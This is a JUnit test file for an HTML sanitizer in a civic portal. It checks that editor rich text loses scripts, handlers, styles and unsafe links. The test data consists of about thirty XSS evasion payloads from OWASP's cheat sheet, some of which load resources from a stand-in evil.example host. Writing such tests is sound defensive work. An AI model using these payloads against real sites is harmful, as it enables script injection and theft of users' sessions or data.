package org.civicportal.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * Editor rich text through the allow-list, with the vectors of OWASP's XSS filter evasion cheat
 * sheet: whatever an editor (or a compromised editor account) pastes, what reaches the page has no
 * script, handler, style, frame, form, base or plug-in, and no link or image that is not http(s) or
 * relative.
 */
class RichTextTest {
  static List<String> vectors() {
    return List.of(
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=JaVaScRiPt:alert('XSS')>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
        "<a href=\" javascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<div style=\"width: expression(alert(1));\">x</div>",
        "<style>@import 'https://evil.example/x.css';</style><p>x</p>",
        "<base href=\"https://evil.example/\"><a href=\"/x\">x</a>",
        "<form action=\"https://evil.example/\"><input name=p><button>go</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object><embed src=\"https://evil.example/x.swf\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<<SCRIPT>alert(1);//<</SCRIPT>",
        "<p onmouseover=\"alert(1)\">x</p>",
        "<a href=\"https://example.gov.vn/\" target=\"_blank\" onclick=\"alert(1)\">x</a>");
  }

  @ParameterizedTest
  @MethodSource("vectors")
  void knownVectorsLeaveNothingActive(String vector) {
    String clean = RichText.sanitize("<p>before</p>" + vector + "<p>after</p>");
    Document doc = Jsoup.parseBodyFragment(clean);
    assertThat(
            doc.body()
                .select(
                    "script, style, svg, math, iframe, object, embed, form, input, button, base, meta,"
                        + " link, body body, details, noscript"))
        .as(clean)
        .isEmpty();
    for (Element e : doc.body().getAllElements()) {
      for (Attribute a : e.attributes()) {
        String key = a.getKey().toLowerCase(Locale.ROOT);
        assertThat(key)
            .as(clean)
            .doesNotStartWith("on")
            .isNotIn("style", "formaction", "background", "action", "srcdoc");
        if (key.equals("href") || key.equals("src")) {
          assertThat(a.getValue()).as(clean).matches("(https?://|/)[^\\s]*|[a-z0-9./-]*");
        }
      }
    }
    assertThat(clean.toLowerCase(Locale.ROOT))
        .as(clean)
        .doesNotContain("javascript:", "vbscript:", "data:", "expression(");
    // Cleaning drops the attack, not the text around it (an unclosed raw-text element may swallow
    // what follows).
    assertThat(doc.body().text()).as(clean).startsWith("before");
  }

  @Test
  void formattingLinksAndImagesAnEditorMeansSurvive() {
    String html =
        "<h2>Kết quả</h2><p><strong>Đậm</strong> <em>nghiêng</em> <a href=\"https://example.gov.vn/a\">"
            + "link</a> <a href=\"/reports/x\">nội bộ</a></p><ul><li>một</li></ul><figure><img src=\"/dam/a.jpg\" "
            + "alt=\"Ảnh\"><figcaption>Chú thích</figcaption></figure><table><tr><th scope=\"col\">A</th></tr>"
            + "<tr><td>1</td></tr></table>";
    Document doc = Jsoup.parseBodyFragment(RichText.sanitize(html));
    assertThat(doc.select("h2, strong, em, ul li, figure img, figcaption, th[scope=col], td"))
        .hasSize(8);
    assertThat(doc.select("a").eachAttr("href"))
        .containsExactly("https://example.gov.vn/a", "/reports/x");
    assertThat(doc.select("a").eachAttr("rel")).containsOnly("noopener noreferrer");
    assertThat(doc.selectFirst("img").attr("src")).isEqualTo("/dam/a.jpg");
  }
}
